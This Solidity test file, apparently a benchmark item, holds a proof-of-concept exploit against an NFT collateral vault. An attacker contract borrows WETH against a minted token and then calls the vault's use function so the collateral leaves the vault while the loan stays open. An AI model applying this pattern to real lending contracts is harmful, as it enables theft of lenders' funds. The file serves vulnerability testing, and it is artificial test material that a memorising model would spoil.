// SPDX-License-Identifier: GPL-3.0-or-later
pragma solidity 0.8.24;

// assay-canary-c27d9b80-41e6-4a35-9f1d-6b0e83d25c74
import "../Base.sol";

contract Attacker is IItemUser {
    uint256 public loan;

    function borrow(LoanDesk desk, Mint pebble, Offer calldata o, bytes calldata signature, address to) external {
        pebble.setApprovalForAll(address(desk.vault()), true);
        loan = desk.accept(o, signature, 41, new bytes32[](0));
        Weth(o.currency).transfer(to, Weth(o.currency).balanceOf(address(this)));
    }

    function run(CollateralVault vault) external {
        vault.use(loan, this, "");
    }

    function onERC721Received(address, address, uint256, bytes calldata) external pure returns (bytes4) {
        return this.onERC721Received.selector;
    }

    function onUse(uint256, Item calldata, address, bytes calldata) external {}
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker();
        pebble.mint(address(other), 41);
        Offer memory o = _offer(cee, address(pebble), 40e18, 1_000, 60 days);
        o.nonce = 20;
        other.borrow(desk, pebble, o, _signed(o, CEE_KEY), FAR);
    }

    function exploit() public {
        other.run(vault);
    }

    function test_Exploit() public {
        exploit();
        require(!present(), "returned");
    }

    /// Collateral of a loan is in the vault.
    function present() public view returns (bool) {
        return vault.loanOf(address(pebble), 41) == 0 || pebble.ownerOf(41) == address(vault);
    }

    function target() public view override returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
